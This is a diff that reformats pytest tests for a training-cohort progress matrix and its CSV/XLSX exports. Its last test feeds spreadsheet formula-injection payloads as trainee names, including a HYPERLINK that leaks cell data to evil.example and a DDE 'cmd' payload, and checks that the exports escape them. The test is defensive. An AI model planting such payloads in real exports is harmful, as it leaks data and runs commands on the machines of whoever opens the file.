@@ -22,12 +22,14 @@ def finish_module(user, module):
     db.session.commit()
 
 
-def test_matrix_shows_each_step(client, auth, make_cohort, make_user, enrolments,
-                                answer_survey):
+def test_matrix_shows_each_step(client, auth, make_cohort, make_user, enrolments, answer_survey):
     cohort = make_cohort(trainees=3)
     first, second, third = enrolments(cohort)
-    first.user.full_name, second.user.full_name, third.user.full_name = \
-        "Bùi Thị Ánh", "Cao Văn Bình", "Đoàn Thị Châu"
+    first.user.full_name, second.user.full_name, third.user.full_name = (
+        "Bùi Thị Ánh",
+        "Cao Văn Bình",
+        "Đoàn Thị Châu",
+    )
     db.session.commit()
     module = cohort.modules[0].module
     answer_survey(first, "pre", knowledge=0)
@@ -57,8 +59,9 @@ def test_matrix_shows_each_step(client, auth, make_cohort, make_user, enrolments
     assert "Issued" in page and "Waived" in page
 
 
-def test_filters_and_sort_work_without_javascript(client, auth, make_cohort, enrolments,
-                                                   answer_survey, make_user):
+def test_filters_and_sort_work_without_javascript(
+    client, auth, make_cohort, enrolments, answer_survey, make_user
+):
     cohort = make_cohort(trainees=2)
     ahead, behind = enrolments(cohort)
     ahead.user.full_name, behind.user.full_name = "An Ahead", "Zed Behind"
@@ -90,16 +93,14 @@ def count_queries(function) -> int:
     return len(statements)
 
 
-def test_matrix_query_count_does_not_grow_with_trainees(make_cohort, enrolments,
-                                                        answer_survey):
+def test_matrix_query_count_does_not_grow_with_trainees(make_cohort, enrolments, answer_survey):
     small, large = make_cohort(trainees=2), make_cohort(trainees=12)
     for cohort in (small, large):
         module = cohort.modules[0].module
         for enrolment in enrolments(cohort):
             answer_survey(enrolment, "pre")
             finish_module(enrolment.user, module)
-            db.session.add(Certificate(enrolment_id=enrolment.id, snapshot={},
-                                       code=f"C{enrolment.id:08d}"))
+            db.session.add(Certificate(enrolment_id=enrolment.id, snapshot={}, code=f"C{enrolment.id:08d}"))
         db.session.commit()
 
     def build(cohort):
@@ -114,8 +115,9 @@ def test_matrix_query_count_does_not_grow_with_trainees(make_cohort, enrolments,
     assert count_queries(lambda: build(small)) == count_queries(lambda: build(large))
 
 
-def test_csv_export_has_a_bom_and_vietnamese_and_is_audited(client, auth, make_cohort,
-                                                            enrolments, answer_survey):
+def test_csv_export_has_a_bom_and_vietnamese_and_is_audited(
+    client, auth, make_cohort, enrolments, answer_survey
+):
     cohort = make_cohort(trainees=1)
     (enrolment,) = enrolments(cohort)
     enrolment.user.full_name = "Nguyễn Thị Hương"
@@ -128,12 +130,16 @@ def test_csv_export_has_a_bom_and_vietnamese_and_is_audited(client, auth, make_c
     rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
     assert rows[0][0] == "Full name"
     assert rows[1][0] == "Nguyễn Thị Hương"
-    assert db.session.scalar(select(AuditEvent).where(AuditEvent.action == "export_progress",
-                                                      AuditEvent.target == f"cohort:{cohort.id}"))
+    assert db.session.scalar(
+        select(AuditEvent).where(
+            AuditEvent.action == "export_progress", AuditEvent.target == f"cohort:{cohort.id}"
+        )
+    )
 
 
 def test_the_exports_are_named_after_the_cohort_in_vietnamese_with_an_ascii_fallback(
-        client, auth, make_cohort, make_user):
+    client, auth, make_cohort, make_user
+):
     """RFC 6266: filename* carries the UTF-8 name, filename an ASCII one for old browsers."""
     facilitator = make_user("facilitator", language="vi")
     cohort = make_cohort(facilitator=facilitator, name='Lớp Đà Nẵng/2026 "Công an"')
@@ -149,8 +155,9 @@ def test_the_exports_are_named_after_the_cohort_in_vietnamese_with_an_ascii_fall
     assert response.headers["Cache-Control"] == "no-store, private"
 
 
-def test_xlsx_export_has_numbers_and_a_frozen_bold_header(client, auth, make_cohort,
-                                                          enrolments, answer_survey):
+def test_xlsx_export_has_numbers_and_a_frozen_bold_header(
+    client, auth, make_cohort, enrolments, answer_survey
+):
     cohort = make_cohort(trainees=1)
     (enrolment,) = enrolments(cohort)
     enrolment.user.full_name = "Trần Văn Đức"
@@ -167,13 +174,11 @@ def test_xlsx_export_has_numbers_and_a_frozen_bold_header(client, auth, make_coh
     progress = sheet.cell(row=2, column=header.index("Progress %") + 1).value
     assert isinstance(knowledge, int | float) and isinstance(progress, int)
     assert progress > 0
-    events = db.session.scalars(select(AuditEvent).where(
-        AuditEvent.action == "export_progress")).all()
+    events = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export_progress")).all()
     assert len(events) == 1 and "xlsx" in events[0].details
 
 
-def test_matrix_never_shows_attitude_answers(client, auth, make_cohort, enrolments,
-                                             answer_survey):
+def test_matrix_never_shows_attitude_answers(client, auth, make_cohort, enrolments, answer_survey):
     cohort = make_cohort(trainees=1)
     (enrolment,) = enrolments(cohort)
     answer_survey(enrolment, "pre", likert=1)
@@ -186,28 +191,32 @@ def test_matrix_never_shows_attitude_answers(client, auth, make_cohort, enrolmen
 def test_revoked_certificate_is_not_counted(make_cohort, enrolments):
     cohort = make_cohort(trainees=1)
     (enrolment,) = enrolments(cohort)
-    db.session.add(Certificate(enrolment_id=enrolment.id, code="REVOKED1", snapshot={},
-                               revoked_at=datetime.now(UTC)))
+    db.session.add(
+        Certificate(enrolment_id=enrolment.id, code="REVOKED1", snapshot={}, revoked_at=datetime.now(UTC))
+    )
     db.session.commit()
     matrix = completion_matrix(cohort)
     assert matrix.rows[0].certificate == CertificateState.REVOKED
     assert matrix.totals()["certificates"] == 0
 
 
-def test_a_name_written_as_a_formula_stays_text_in_both_matrix_exports(
-        client, auth, make_cohort, enrolments):
+def test_a_name_written_as_a_formula_stays_text_in_both_matrix_exports(client, auth, make_cohort, enrolments):
     cohort = make_cohort(trainees=4)
-    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
-               "-2+3", "@SUM(A1:A9)"]
+    hostile = [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+    ]
     for enrolment, name in zip(enrolments(cohort), hostile, strict=True):
         enrolment.user.full_name = name
     db.session.commit()
     auth.login(cohort.facilitators[0])
-    rows = list(csv.reader(io.StringIO(client.get(f"/cohorts/{cohort.id}/progress.csv")
-                                       .data.decode("utf-8-sig"))))
+    rows = list(
+        csv.reader(io.StringIO(client.get(f"/cohorts/{cohort.id}/progress.csv").data.decode("utf-8-sig")))
+    )
     assert sorted(row[0] for row in rows[1:]) == sorted("'" + name for name in hostile)
-    sheet = load_workbook(io.BytesIO(client.get(f"/cohorts/{cohort.id}/progress.xlsx").data)
-                          ).active
+    sheet = load_workbook(io.BytesIO(client.get(f"/cohorts/{cohort.id}/progress.xlsx").data)).active
     cells = [cell for row in sheet.iter_rows() for cell in row]
     assert not [c.coordinate for c in cells if c.data_type == "f"]
     assert sorted(cell.value for cell in sheet["A"][1:]) == sorted("'" + n for n in hostile)
